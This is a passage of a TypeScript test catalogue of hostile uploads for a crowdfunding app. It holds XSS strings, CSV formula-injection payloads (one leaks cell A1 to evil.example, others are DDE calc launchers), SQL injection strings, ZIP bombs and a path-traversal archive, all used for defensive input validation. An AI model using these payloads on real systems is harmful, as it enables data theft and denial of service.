import { deflateSync, strToU8, zipSync } from "fflate";
import { HOSTILE_WORKBOOKS } from "./hostile-workbooks";

/**
 * A catalogue of malformed and hostile uploads for every place a file or list enters Pledgehouse.
 * Each entry is generated in memory when a test asks for its bytes (100 MB files and ZIP bombs are
 * never committed), and says what must happen: refused with a message naming the problem, read
 * with a warning, or read with a hostile value kept as literal text.
 */

export const HOSTILE_TARGETS = [
  "backer-import",
  "tracking",
  "code-list",
  "email-list",
  "contact-list",
  "partner-list",
  "csv-export",
] as const;
export type HostileTarget = (typeof HOSTILE_TARGETS)[number];

export type HostileExpectation =
  /** Nothing is read; one of the messages matches. */
  | { refused: RegExp }
  /** The file is read, and a warning matches. */
  | { warned: RegExp }
  /** The file is read and this value comes back exactly as written (never interpreted). */
  | { reads: string };

export type HostileFile = {
  /** Unique, kebab-case. */
  id: string;
  target: HostileTarget;
  fileName: string;
  /** Builds the bytes (or, for pasted lists and CSV export cells, the UTF-8 text). */
  bytes: () => Uint8Array;
  expect: HostileExpectation;
  /** Upper bound for reading it, in milliseconds. */
  budgetMs?: number;
  /** A known gap handed to the area's owner (a file in /tmp/handoff): the case waits for the fix, as a todo
   * that `npm test` refuses unless tests/support/expected-skips.ts lists it. */
  handoff?: string;
};

const MB = 1024 * 1024;

// ---------------------------------------------------------------- byte helpers

export const utf8 = (text: string): Uint8Array => new TextEncoder().encode(text);

function utf16(text: string, order: "le" | "be", bom: boolean): Uint8Array {
  const out = new Uint8Array((text.length + (bom ? 1 : 0)) * 2);
  let at = 0;
  const put = (code: number) => {
    out[at++] = order === "le" ? code & 0xff : code >> 8;
    out[at++] = order === "le" ? code >> 8 : code & 0xff;
  };
  if (bom) put(0xfeff);
  for (let i = 0; i < text.length; i++) put(text.charCodeAt(i));
  return out;
}

/** Windows-1252 for the characters it shares with Latin-1 (all this catalogue uses). */
function latin1(text: string): Uint8Array {
  const out = new Uint8Array(text.length);
  for (let i = 0; i < text.length; i++) out[i] = text.charCodeAt(i) & 0xff;
  return out;
}

function concat(...parts: Uint8Array[]): Uint8Array {
  const out = new Uint8Array(parts.reduce((sum, part) => sum + part.length, 0));
  let at = 0;
  for (const part of parts) {
    out.set(part, at);
    at += part.length;
  }
  return out;
}

/** `head`, then `unit` repeated until the whole is `size` bytes (doubling copies: fast even at 100 MB). */
function fillTo(size: number, head: Uint8Array, unit: Uint8Array): Uint8Array {
  const out = new Uint8Array(size);
  out.set(head);
  const filled = head.length;
  out.set(unit.subarray(0, Math.min(unit.length, size - filled)), filled);
  let written = Math.min(unit.length, size - filled);
  while (filled + written < size) {
    const copy = Math.min(written, size - filled - written);
    out.copyWithin(filled + written, filled, filled + copy);
    written += copy;
  }
  return out;
}

const CRC_TABLE = (() => {
  const table = new Uint32Array(256);
  for (let n = 0; n < 256; n++) {
    let c = n;
    for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
    table[n] = c >>> 0;
  }
  return table;
})();

function crc32(bytes: Uint8Array): number {
  let crc = 0xffffffff;
  for (let i = 0; i < bytes.length; i++) crc = CRC_TABLE[(crc ^ bytes[i]) & 0xff] ^ (crc >>> 8);
  return (crc ^ 0xffffffff) >>> 0;
}

type RawZipEntry = { name: string; data: Uint8Array; method: 0 | 8; crc: number; size: number };

/**
 * A ZIP written by hand, so an archive can lie: `declaredSize` replaces the true uncompressed size
 * in the headers, and with `overlap` every table-of-contents entry points at the same local entry
 * (the "overlapping" bomb: one compressed stream counted many times).
 */
function rawZip(entries: RawZipEntry[], options: { declaredSize?: number; overlap?: number } = {}): Uint8Array {
  const local: Uint8Array[] = [];
  const central: Uint8Array[] = [];
  let offset = 0;
  const offsets: number[] = [];
  for (const entry of entries) {
    const name = utf8(entry.name);
    const header = new Uint8Array(30 + name.length);
    const view = new DataView(header.buffer);
    view.setUint32(0, 0x04034b50, true);
    view.setUint16(4, 20, true);
    view.setUint16(8, entry.method, true);
    view.setUint32(14, entry.crc, true);
    view.setUint32(18, entry.data.length, true);
    view.setUint32(22, options.declaredSize ?? entry.size, true);
    view.setUint16(26, name.length, true);
    header.set(name, 30);
    offsets.push(offset);
    local.push(header, entry.data);
    offset += header.length + entry.data.length;
  }
  const copies = options.overlap ?? 1;
  let count = 0;
  for (let copy = 0; copy < copies; copy++) {
    entries.forEach((entry, index) => {
      const name = utf8(copies === 1 ? entry.name : entry.name.replace(/(\.\w+)$/, `-${copy}$1`));
      const record = new Uint8Array(46 + name.length);
      const view = new DataView(record.buffer);
      view.setUint32(0, 0x02014b50, true);
      view.setUint16(4, 20, true);
      view.setUint16(6, 20, true);
      view.setUint16(10, entry.method, true);
      view.setUint32(16, entry.crc, true);
      view.setUint32(20, entry.data.length, true);
      view.setUint32(24, options.declaredSize ?? entry.size, true);
      view.setUint16(28, name.length, true);
      view.setUint32(42, offsets[index], true);
      record.set(name, 46);
      central.push(record);
      count++;
    });
  }
  const directorySize = central.reduce((sum, part) => sum + part.length, 0);
  const end = new Uint8Array(22);
  const view = new DataView(end.buffer);
  view.setUint32(0, 0x06054b50, true);
  view.setUint16(8, count, true);
  view.setUint16(10, count, true);
  view.setUint32(12, directorySize, true);
  view.setUint32(16, offset, true);
  return concat(...local, ...central, end);
}

/** `megabytes` of one repeated CSV line, deflated: ~1,000:1. */
function deflatedCsvEntry(name: string, megabytes: number): RawZipEntry {
  const plain = fillTo(megabytes * MB, utf8("Backer Number,Email\n"), utf8("1,a@example.com\n"));
  return { name, data: deflateSync(plain, { level: 9 }), method: 8, crc: crc32(plain), size: plain.length };
}

/** A minimal .xlsx: the parts Excel writes first. */
function xlsxBytes(): Uint8Array {
  return zipSync({
    "[Content_Types].xml": strToU8('<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'),
    "_rels/.rels": strToU8("<Relationships/>"),
    "xl/workbook.xml": strToU8("<workbook/>"),
    "xl/worksheets/sheet1.xml": strToU8("<worksheet><sheetData/></worksheet>"),
  });
}

const PNG = new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52, 0, 0, 0, 1, 0, 0, 0, 1, 8, 6, 0, 0, 0]);
const PDF = utf8("%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n");
const JPEG = new Uint8Array([0xff, 0xd8, 0xff, 0xe0, 0, 16, 0x4a, 0x46, 0x49, 0x46, 0, 1]);

// ---------------------------------------------------------------- hostile values

export const SCRIPT_NAME = "<script>alert(1)</script>";
export const IMG_NAME = "<img src=x onerror=alert(1)>";
export const HTML_NOTE = '<b>VIP</b> <a href="javascript:alert(1)">click</a> <iframe src="https://evil.example"></iframe>';
export const FORMULA_HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for your reward")';
export const FORMULA_DDE = "+cmd|' /C calc'!A0";
export const FORMULA_AT = "@SUM(1+1)*cmd|' /C calc'!A0";
export const SQL_NAME = "Robert'); DROP TABLE backer;--";
/** "ada@example.com" with a Cyrillic а: looks identical, is another address. */
export const HOMOGLYPH_EMAIL = "\u0430da@example.com";

// ---------------------------------------------------------------- file shapes

const KS_HEADER = "Backer Number,Backer UID,Backer Name,Email,Shipping Country,Shipping Amount,Reward Minimum,Reward ID,Pledge Amount,Pledged At,Rewards Sent?,Pledged Status,Notes";

const csvCell = (value: string) => (/[",\r\n]/.test(value) ? `"${value.replaceAll('"', '""')}"` : value);

/** A Kickstarter 2016-layout backer report; each row overrides the default name, email and notes. */
export function kickstarterCsv(rows: { name?: string; email?: string; notes?: string }[], newline = "\n"): string {
  const lines = rows.map((row, index) =>
    [
      // Numbers and UIDs no existing backer has: a clash would hide the problem under test.
      String(1001 + index),
      String(955500 + index),
      row.name ?? `Backer ${index + 1}`,
      row.email ?? `backer${index + 1}@example.com`,
      "GB",
      "$8.00 USD",
      "$25.00 USD",
      "7001",
      "$33.00 USD",
      "2016/03/01, 10:00",
      "",
      "collected",
      row.notes ?? "",
    ]
      .map(csvCell)
      .join(","),
  );
  return [KS_HEADER, ...lines].join(newline) + newline;
}

const TRACKING_HEADER = "Backer Number,Email,Name,Reward,Shipping Country,Tracking Number,Carrier (optional),Tracking URL (optional)";

/** A filled tracking template for the given backers (backer number, email) and tracking cells. */
export function trackingCsv(rows: { backerNumber?: string; email?: string; tracking: string; carrier?: string; url?: string }[], newline = "\n"): string {
  const lines = rows.map((row, index) =>
    [row.backerNumber ?? String(index + 1), row.email ?? "", "Someone", "Reward", "US", row.tracking, row.carrier ?? "", row.url ?? ""].map(csvCell).join(","),
  );
  return [TRACKING_HEADER, ...lines].join(newline) + newline;
}

const manyColumns = (count: number, prefix = "Column") => Array.from({ length: count }, (_, i) => `${prefix} ${i + 1}`).join(",");
const tenMegabytes = (unit: string) => unit.repeat(Math.ceil((10 * MB) / unit.length)).slice(0, 10 * MB);
const headerThenEmptyRows = (header: string, rows: number) => utf8(header + "\n" + ",\n".repeat(rows));

// ---------------------------------------------------------------- the catalogue

/** The tracking catalogue assumes backers 1 and 2 of the project exist with these emails. */
export const TRACKING_BACKERS = [
  { backerNumber: 1, email: "first@example.com" },
  { backerNumber: 2, email: "second@example.com" },
];

export const HOSTILE_FILES: HostileFile[] = [
  // ------------------------------------------------ backer imports
  {
    id: "import-utf16le-bom",
    target: "backer-import",
    fileName: "backers-unicode.txt",
    bytes: () => utf16(kickstarterCsv([{ name: "Zoë Ünal-Øre 田中" }]).replaceAll(",", "\t"), "le", true),
    expect: { reads: "Zoë Ünal-Øre 田中" },
  },
  {
    id: "import-utf16be-no-bom",
    target: "backer-import",
    fileName: "backers-be.csv",
    bytes: () => utf16(kickstarterCsv([{ name: "Zoë Ünal" }]), "be", false),
    expect: { reads: "Zoë Ünal" },
  },
  {
    id: "import-utf16le-no-bom",
    target: "backer-import",
    fileName: "backers-le.csv",
    bytes: () => utf16(kickstarterCsv([{ name: "Anaïs Brontë" }]), "le", false),
    expect: { reads: "Anaïs Brontë" },
  },
  {
    id: "import-windows-1252",
    target: "backer-import",
    fileName: "backers-1252.csv",
    bytes: () => latin1(kickstarterCsv([{ name: "José Müller" }])),
    expect: { warned: /backers-1252\.csv is not UTF-8, so it was read as Windows-1252/ },
  },
  {
    id: "import-invalid-utf8",
    target: "backer-import",
    fileName: "backers-broken.csv",
    bytes: () => {
      const [before, after] = kickstarterCsv([{ name: "Br__oken" }]).split("__");
      return concat(utf8(before), new Uint8Array([0xc3, 0x28, 0xa0, 0xa1]), utf8(after));
    },
    expect: { warned: /backers-broken\.csv is not UTF-8/ },
  },
  {
    id: "import-nul-bytes",
    target: "backer-import",
    fileName: "backers-nul.csv",
    bytes: () => concat(utf8(kickstarterCsv([{ name: "Nul" }])), new Uint8Array(64), utf8("more\n")),
    expect: { refused: /backers-nul\.csv is not a text file \(it contains binary data\)/ },
  },
  {
    id: "import-png-renamed",
    target: "backer-import",
    fileName: "backers.csv",
    bytes: () => PNG,
    expect: { refused: /backers\.csv is a PNG image, not a CSV file/ },
  },
  {
    id: "import-pdf-renamed",
    target: "backer-import",
    fileName: "backers.csv",
    bytes: () => PDF,
    expect: { refused: /backers\.csv is a PDF document, not a CSV file/ },
  },
  {
    id: "import-xlsx-renamed",
    target: "backer-import",
    fileName: "backers.csv",
    bytes: xlsxBytes,
    expect: { refused: /backers\.csv is an Excel workbook.*CSV UTF-8/ },
  },
  {
    id: "import-gzip-renamed",
    target: "backer-import",
    fileName: "backers.csv",
    bytes: () => new Uint8Array([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3, 1, 2, 3]),
    expect: { refused: /backers\.csv is a gzip-compressed file, not a CSV file/ },
  },
  {
    id: "import-zip-bomb-honest",
    target: "backer-import",
    fileName: "backer-report.zip",
    // 300 table entries sharing one 16 MB stream: ~20 KB that declares 4.7 GB.
    bytes: () => rawZip([deflatedCsvEntry("Backer Report - Tier.csv", 16)], { overlap: 300 }),
    expect: { refused: /backer-report\.zip unpacks to 4\.7 GB; the limit is 300\.0 MB/ },
    budgetMs: 20_000,
  },
  {
    id: "import-zip-bomb-lying",
    target: "backer-import",
    fileName: "backer-report.zip",
    // Each entry claims 1 KB and inflates to 16 MB.
    bytes: () => rawZip([deflatedCsvEntry("Backer Report - Tier.csv", 16)], { overlap: 50, declaredSize: 1024 }),
    expect: { refused: /unpacks to more than the 1\.0 KB it declares, which is how ZIP bombs work/ },
    budgetMs: 20_000,
  },
  {
    id: "import-zip-10000-entries",
    target: "backer-import",
    fileName: "backer-report.zip",
    bytes: () => zipSync(Object.fromEntries(Array.from({ length: 10_000 }, (_, i) => [`Backer Report - ${i}.csv`, strToU8("Email\n")]))),
    expect: { refused: /backer-report\.zip holds 10000 files; at most 1000 are accepted/ },
  },
  {
    id: "import-zip-nested",
    target: "backer-import",
    fileName: "backer-report.zip",
    bytes: () => zipSync({ "inner.zip": zipSync({ "inner2.zip": zipSync({ "Backer Report - Tier.csv": strToU8(kickstarterCsv([{}])) }) }) }),
    expect: { refused: /backer-report\.zip holds no CSV files/ },
  },
  {
    id: "import-zip-path-traversal",
    target: "backer-import",
    fileName: "backer-report.zip",
    bytes: () => zipSync({ "../../etc/passwd.csv": strToU8("root:x:0:0:root:/root:/bin/bash\n") }),
    expect: { refused: /^backer-report\.zip › \.\.\/\.\.\/etc\/passwd\.csv: The columns of backer-report\.zip › \.\.\/\.\.\/etc\/passwd\.csv are not those of a Kickstarter backer report\./ },
  },
  {
    id: "import-101-mb",
    target: "backer-import",
    fileName: "huge.csv",
    bytes: () => fillTo(101 * MB, utf8(`${KS_HEADER}\n`), utf8(kickstarterCsv([{}]).split("\n")[1] + "\n")),
    expect: { refused: /huge\.csv is 101\.0 MB; the limit is 100\.0 MB/ },
    budgetMs: 20_000,
  },
  {
    id: "import-50000-columns",
    target: "backer-import",
    fileName: "wide.csv",
    bytes: () => utf8(`${manyColumns(50_000)}\n${manyColumns(50_000, "v")}\n`),
    expect: { refused: /The columns of wide\.csv are not those of a Kickstarter backer report/ },
    budgetMs: 20_000,
  },
  {
    id: "import-10-mb-cell",
    target: "backer-import",
    fileName: "big-cell.csv",
    bytes: () => utf8(kickstarterCsv([{ notes: tenMegabytes("0123456789abcdef") }])),
    expect: { refused: /^big-cell\.csv, row 2, column "Notes": The cell is 10,485,760 characters long; at most 10,000 are accepted\./ },
    budgetMs: 20_000,
  },
  {
    id: "import-unbalanced-quotes",
    target: "backer-import",
    fileName: "quotes.csv",
    // The last cell of the file opens a quote that nothing closes.
    bytes: () => utf8(kickstarterCsv([{ name: "Ada" }, { notes: "NOTE" }]).replace("NOTE", '"Leave at the door, ring twice')),
    expect: { refused: /A quoted cell that starts in row 3 \(line 3\) is never closed/ },
  },
  {
    id: "import-only-header",
    target: "backer-import",
    fileName: "header-only.csv",
    bytes: () => utf8(`${KS_HEADER}\n`),
    expect: { refused: /header-only\.csv has a header row but no backers/ },
  },
  {
    id: "import-only-bom",
    target: "backer-import",
    fileName: "bom.csv",
    bytes: () => new Uint8Array([0xef, 0xbb, 0xbf]),
    expect: { refused: /bom\.csv is empty/ },
  },
  {
    id: "import-empty",
    target: "backer-import",
    fileName: "empty.csv",
    bytes: () => new Uint8Array(0),
    expect: { refused: /empty\.csv is empty \(0 bytes\)/ },
  },
  {
    id: "import-header-and-1m-empty-rows",
    target: "backer-import",
    fileName: "blank-rows.csv",
    bytes: () => headerThenEmptyRows(KS_HEADER, 1_000_000),
    expect: { refused: /blank-rows\.csv has a header row but no backers/ },
    budgetMs: 20_000,
  },
  {
    id: "import-cr-only-line-endings",
    target: "backer-import",
    fileName: "classic-mac.csv",
    bytes: () => utf8(kickstarterCsv([{ name: "Carriage Return" }, {}], "\r")),
    expect: { reads: "Carriage Return" },
  },
  {
    id: "import-crlf-line-endings",
    target: "backer-import",
    fileName: "windows.csv",
    bytes: () => utf8(kickstarterCsv([{ name: "Line Feed" }, {}], "\r\n")),
    expect: { reads: "Line Feed" },
  },
  {
    id: "import-duplicate-headers",
    target: "backer-import",
    fileName: "twice.csv",
    bytes: () => utf8(kickstarterCsv([{}]).replace("Notes", "Email")),
    expect: { warned: /The column "Email" appears twice \(columns 4 and 13\); only the first is read/ },
  },
  {
    id: "import-script-name",
    target: "backer-import",
    fileName: "script.csv",
    bytes: () => utf8(kickstarterCsv([{ name: SCRIPT_NAME, notes: HTML_NOTE }])),
    expect: { reads: SCRIPT_NAME },
  },
  {
    id: "import-img-onerror-name",
    target: "backer-import",
    fileName: "img.csv",
    bytes: () => utf8(kickstarterCsv([{ name: IMG_NAME }])),
    expect: { reads: IMG_NAME },
  },
  {
    id: "import-formula-payloads",
    target: "backer-import",
    fileName: "formula.csv",
    bytes: () => utf8(kickstarterCsv([{ name: FORMULA_HYPERLINK, notes: FORMULA_DDE }, { name: FORMULA_AT }])),
    expect: { reads: FORMULA_HYPERLINK },
  },
  {
    id: "import-sql-looking-name",
    target: "backer-import",
    fileName: "sql.csv",
    bytes: () => utf8(kickstarterCsv([{ name: SQL_NAME, notes: "1; DELETE FROM pledge WHERE 1=1" }])),
    expect: { reads: SQL_NAME },
  },
  {
    id: "import-extremely-long-email",
    target: "backer-import",
    fileName: "long-email.csv",
    bytes: () => utf8(kickstarterCsv([{ email: `${"a".repeat(10_000)}@example.com` }])),
    expect: { refused: /long-email\.csv, row 2, column "Email": "a+…" is not a valid email address/ },
  },
  {
    id: "import-script-email",
    target: "backer-import",
    fileName: "script-email.csv",
    bytes: () => utf8(kickstarterCsv([{ email: `${SCRIPT_NAME}@example.com` }])),
    expect: { refused: /row 2, column "Email": "<script>alert\(1\)<\/script>@example\.com" is not a valid email address/ },
  },

  // ------------------------------------------------ tracking uploads
  {
    id: "tracking-utf16le-no-bom",
    target: "tracking",
    fileName: "tracking-unicode.txt",
    bytes: () => utf16(trackingCsv([{ tracking: "1Z999AA10123456784" }]).replaceAll(",", "\t"), "le", false),
    expect: { reads: "1Z999AA10123456784" },
  },
  {
    id: "tracking-windows-1252",
    target: "tracking",
    fileName: "tracking-1252.csv",
    bytes: () => latin1(trackingCsv([{ tracking: "1Z999AA10123456784" }]).replace("Someone", "Zoë")),
    expect: { warned: /tracking-1252\.csv is not UTF-8, so it was read as Windows-1252/ },
  },
  {
    id: "tracking-nul-bytes",
    target: "tracking",
    fileName: "tracking-nul.csv",
    bytes: () => concat(utf8(trackingCsv([{ tracking: "1Z999AA10123456784" }])), new Uint8Array(32)),
    expect: { refused: /tracking-nul\.csv is not a text file \(it contains binary data\)/ },
  },
  {
    id: "tracking-pdf-renamed",
    target: "tracking",
    fileName: "tracking.csv",
    bytes: () => PDF,
    expect: { refused: /tracking\.csv is a PDF document, not a CSV file/ },
  },
  {
    id: "tracking-xlsx-renamed",
    target: "tracking",
    fileName: "tracking.csv",
    bytes: xlsxBytes,
    expect: { refused: /tracking\.csv is an Excel workbook.*CSV UTF-8/ },
  },
  {
    id: "tracking-zip-bomb",
    target: "tracking",
    fileName: "tracking.csv",
    bytes: () => rawZip([deflatedCsvEntry("tracking.csv", 16)], { overlap: 300 }),
    expect: { refused: /tracking\.csv is a ZIP archive, not a CSV file/ },
  },
  {
    id: "tracking-101-mb",
    target: "tracking",
    fileName: "tracking-huge.csv",
    bytes: () => fillTo(101 * MB, utf8(`${TRACKING_HEADER}\n`), utf8("1,first@example.com,A,B,US,1Z999AA10123456784,,\n")),
    expect: { refused: /tracking-huge\.csv is 101\.0 MB; the limit is 100\.0 MB/ },
    budgetMs: 20_000,
  },
  {
    id: "tracking-50000-columns",
    target: "tracking",
    fileName: "tracking-wide.csv",
    bytes: () => utf8(`${manyColumns(50_000)}\n${manyColumns(50_000, "v")}\n`),
    expect: { refused: /tracking-wide\.csv has no "Tracking Number" column \(its columns are "Column 1", .*, …\)/ },
    budgetMs: 20_000,
  },
  {
    id: "tracking-10-mb-cell",
    target: "tracking",
    fileName: "tracking-big-cell.csv",
    bytes: () => utf8(trackingCsv([{ tracking: tenMegabytes("1Z999AA1") }])),
    expect: { refused: /is too long to be one tracking number \(10485760 characters; at most 40\)/ },
    budgetMs: 20_000,
  },
  {
    id: "tracking-unbalanced-quotes",
    target: "tracking",
    fileName: "tracking-quotes.csv",
    bytes: () => utf8(trackingCsv([{ tracking: "1Z999AA10123456784" }, { tracking: "1Z999AA10123456785" }]).replace("1Z999AA10123456785", '"1Z999AA10123456785')),
    expect: { refused: /A quoted cell that starts in row 3 \(line 3\) is never closed/ },
  },
  {
    id: "tracking-formula-number",
    target: "tracking",
    fileName: "tracking-formula.csv",
    bytes: () => utf8(trackingCsv([{ tracking: FORMULA_HYPERLINK }])),
    expect: { refused: /^tracking-formula\.csv, row 2, column "Tracking Number": "=HYPERLINK\(.*" contains "=", "\(", """, which cannot be part of a tracking number/ },
  },
  {
    id: "tracking-javascript-url",
    target: "tracking",
    fileName: "tracking-js-url.csv",
    bytes: () => utf8(trackingCsv([{ tracking: "1Z999AA10123456784", carrier: "Other", url: "javascript:alert(document.cookie)" }])),
    expect: { refused: /^tracking-js-url\.csv, row 2, column "Tracking URL \(optional\)": "javascript:alert\(document\.cookie\)" is not a web address\./ },
  },
  {
    // A host with a dot: only the http/https check refuses it.
    id: "tracking-javascript-url-with-host",
    target: "tracking",
    fileName: "tracking-js-host.csv",
    bytes: () => utf8(trackingCsv([{ tracking: "1Z999AA10123456784", carrier: "UPS", url: "javascript://example.com/%0Aalert(document.cookie)" }])),
    expect: { refused: /^tracking-js-host\.csv, row 2, column "Tracking URL \(optional\)": "javascript:\/\/example\.com\/%0Aalert\(document\.cookie\)" is not a web address\./ },
  },
  {
    id: "tracking-script-in-carrier",
    target: "tracking",
    fileName: "tracking-script.csv",
    bytes: () => utf8(trackingCsv([{ tracking: "1Z999AA10123456784", carrier: SCRIPT_NAME }])),
    expect: { warned: /^tracking-script\.csv, row 2, column "Carrier \(optional\)": Pledgehouse does not know the carrier "<script>alert\(1\)<\/script>", so the email and the Backing details page will show the number without a "Track shipment" link\./ },
  },
  {
    id: "tracking-only-header",
    target: "tracking",
    fileName: "tracking-header-only.csv",
    bytes: () => utf8(`${TRACKING_HEADER}\n`),
    expect: { refused: /tracking-header-only\.csv has a header row but no data rows/ },
  },
  {
    id: "tracking-header-and-1m-empty-rows",
    target: "tracking",
    fileName: "tracking-blank-rows.csv",
    bytes: () => headerThenEmptyRows(TRACKING_HEADER, 1_000_000),
    expect: { refused: /tracking-blank-rows\.csv has a header row but no data rows/ },
    budgetMs: 20_000,
  },
  {
    id: "tracking-cr-only-line-endings",
    target: "tracking",
    fileName: "tracking-cr.csv",
    bytes: () => utf8(trackingCsv([{ tracking: "1Z999AA10123456784" }], "\r")),
    expect: { reads: "1Z999AA10123456784" },
  },

  // ------------------------------------------------ digital reward code lists
  {
    id: "codes-png-renamed",
    target: "code-list",
    fileName: "codes.txt",
    bytes: () => PNG,
    expect: { refused: /codes\.txt is a PNG image, not a CSV file/ },
  },
  {
    id: "codes-utf16le-bom",
    target: "code-list",
    fileName: "codes.txt",
    bytes: () => utf16("Code\r\nKEY-ÅÄÖ-1\r\nKEY-ÅÄÖ-2\r\n", "le", true),
    expect: { reads: "KEY-ÅÄÖ-1" },
  },
  {
    id: "codes-nul-bytes",
    target: "code-list",
    fileName: "codes.csv",
    bytes: () => concat(utf8("Code\nAAA-1\n"), new Uint8Array(16), utf8("AAA-2\n")),
    expect: { refused: /codes\.csv is not a text file \(it contains binary data\)/ },
  },
  {
    id: "codes-31-mb",
    target: "code-list",
    fileName: "codes-huge.txt",
    bytes: () => fillTo(31 * MB, utf8("Code\n"), utf8("ABCDEFGH-1234\n")),
    expect: { refused: /codes-huge\.txt is 31\.0 MB; the limit is 30\.0 MB/ },
    budgetMs: 20_000,
  },
  {
    id: "codes-zip-bomb",
    target: "code-list",
    fileName: "codes.csv",
    bytes: () => rawZip([deflatedCsvEntry("codes.csv", 16)], { overlap: 300 }),
    expect: { refused: /codes\.csv is a ZIP archive, not a CSV file/ },
  },
  {
    id: "codes-10-mb-code",
    target: "code-list",
    fileName: "codes-big.txt",
    bytes: () => utf8(`Code\nOK-1\n${tenMegabytes("X")}\n`),
    expect: { refused: /The code on row 3 of codes-big\.txt is 10,485,760 characters long; the limit is 2,000/ },
    budgetMs: 20_000,
  },
  {
    id: "codes-50000-columns",
    target: "code-list",
    fileName: "codes-wide.csv",
    bytes: () => utf8(`${manyColumns(50_000)}\n${manyColumns(50_000, "v")}\n`),
    expect: { refused: /The code on row 1, entry 1 of codes-wide\.csv "Column 1" contains a space/ },
    budgetMs: 20_000,
  },
  {
    id: "codes-unbalanced-quotes",
    target: "code-list",
    fileName: "codes-quotes.csv",
    bytes: () => utf8('Code,Note\nAAA-1,fine\n"AAA-2,broken\nAAA-3,fine\n'),
    expect: { refused: /A quoted cell that starts in row 3 \(line 3\) is never closed/ },
  },
  {
    id: "codes-javascript-links",
    target: "code-list",
    fileName: "links.txt",
    bytes: () => utf8("javascript:alert(1)\nhttps://rewards.example.com/dl/1\n"),
    expect: { refused: /The code on row 1 of links\.txt "javascript:alert\(1\)" is a javascript: link/ },
  },
  {
    id: "codes-script-tag",
    target: "code-list",
    fileName: "codes-html.txt",
    bytes: () => utf8(`${IMG_NAME}\nAAA-2\n`),
    expect: { refused: /The code on row 1 of codes-html\.txt "<img src=x onerror=alert\(1\)>" contains a space/ },
  },
  {
    id: "codes-formula",
    target: "code-list",
    fileName: "codes-formula.txt",
    bytes: () => utf8("=1+1\nAAA-2\n"),
    expect: { reads: "=1+1" },
  },
  {
    id: "codes-1m-empty-lines",
    target: "code-list",
    fileName: "codes-blank.txt",
    bytes: () => utf8("Code\n" + "\n".repeat(1_000_000)),
    expect: { refused: /codes-blank\.txt holds no codes/ },
    budgetMs: 20_000,
  },

  // ------------------------------------------------ pasted email lists ("Backers with emails")
  {
    id: "emails-homoglyph",
    target: "email-list",
    fileName: "(pasted)",
    bytes: () => utf8(`first@example.com\n${HOMOGLYPH_EMAIL}`),
    expect: { refused: /^\u0430da@example\.com$/ },
  },
  {
    id: "emails-extremely-long",
    target: "email-list",
    fileName: "(pasted)",
    bytes: () => utf8(`first@example.com, ${"a".repeat(100_000)}@example.com`),
    expect: { refused: /^Backers with emails: "a{59}…" is longer than any email address \(at most 254 characters\)$/ },
  },
  {
    id: "emails-script",
    target: "email-list",
    fileName: "(pasted)",
    bytes: () => utf8(`first@example.com; ${SCRIPT_NAME}`),
    expect: { refused: /^Backers with emails: "<script>alert\(1\)<\/script>" is not an email address$/ },
  },
  {
    id: "emails-sql",
    target: "email-list",
    fileName: "(pasted)",
    bytes: () => utf8("first@example.com'); DROP TABLE backer;--"),
    expect: { refused: /^Backers with emails: "drop table backer" is not an email address \(and 1 more problem\)$/ },
  },
  {
    id: "emails-nul-and-controls",
    target: "email-list",
    fileName: "(pasted)",
    bytes: () => utf8("first@example.com\u0000second@example.com\u0007"),
    expect: { refused: /^Backers with emails: "first@example\.com\u0000second@example\.com\u0007" is not an email address$/ },
  },
  {
    id: "emails-1m-lines-of-garbage",
    target: "email-list",
    fileName: "(pasted)",
    bytes: () => utf8("first@example.com\n" + "not an email\n".repeat(1_000_000)),
    expect: { refused: /^Backers with emails: at most 100000 emails; import a longer list as a contact list$/ },
    budgetMs: 20_000,
  },
  {
    id: "emails-over-limit",
    target: "email-list",
    fileName: "(pasted)",
    bytes: () => utf8(Array.from({ length: 100_001 }, (_, i) => `p${i}@example.com`).join("\n")),
    expect: { refused: /^Backers with emails: at most 100000 emails; import a longer list as a contact list$/ },
    budgetMs: 20_000,
  },

  // ------------------------------------------------ contact lists (landing-page leads, campaigns)
  {
    id: "leads-utf16be-bom",
    target: "contact-list",
    fileName: "leads.csv",
    bytes: () => utf16("Name,Email\nZoë,first@example.com\nÅsa,new-lead@example.com\n", "be", true),
    expect: { reads: "new-lead@example.com" },
  },
  {
    id: "leads-jpeg-renamed",
    target: "contact-list",
    fileName: "leads.csv",
    bytes: () => JPEG,
    expect: { refused: /leads\.csv is a JPEG image, not a CSV file/ },
  },
  {
    id: "leads-31-mb",
    target: "contact-list",
    fileName: "leads-huge.csv",
    bytes: () => fillTo(31 * MB, utf8("Email\n"), utf8("lead@example.com\n")),
    expect: { refused: /leads-huge\.csv is 31\.0 MB; the limit is 30\.0 MB/ },
    budgetMs: 20_000,
  },
  {
    id: "leads-50000-columns",
    target: "contact-list",
    fileName: "leads-wide.csv",
    bytes: () => utf8(`${manyColumns(50_000)}\n${manyColumns(50_000, "v")}\n`),
    expect: { refused: /leads-wide\.csv has no email column \(its columns are “Column 1”, .* and 49,99\d more\)/ },
    budgetMs: 20_000,
  },
  {
    id: "leads-10-mb-cell",
    target: "contact-list",
    fileName: "leads-big-cell.csv",
    bytes: () => utf8(`Email\n${tenMegabytes("x")}\n`),
    expect: { refused: /leads-big-cell\.csv has no email addresses in the column “Email”/ },
    budgetMs: 20_000,
  },
  {
    id: "leads-unbalanced-quotes",
    target: "contact-list",
    fileName: "leads-quotes.csv",
    bytes: () => utf8('Name,Email\nAda,ada@example.com\n"Grace,grace@example.com\nAlan,alan@example.com\n'),
    expect: { refused: /A quoted cell that starts in row 3 \(line 3\) is never closed/ },
  },
  {
    id: "leads-html-and-formula-emails",
    target: "contact-list",
    fileName: "leads-hostile.csv",
    bytes: () => utf8(`Email\nfirst@example.com\n${csvCell(IMG_NAME)}\n${csvCell(FORMULA_HYPERLINK)}\n`),
    expect: { warned: /Row 3: “<img src=x onerror=alert\(1\)>” is not an email address, so the row was skipped/ },
  },
  {
    id: "leads-homoglyph",
    target: "contact-list",
    fileName: "leads-homoglyph.csv",
    bytes: () => utf8(`Email\n${HOMOGLYPH_EMAIL}\n`),
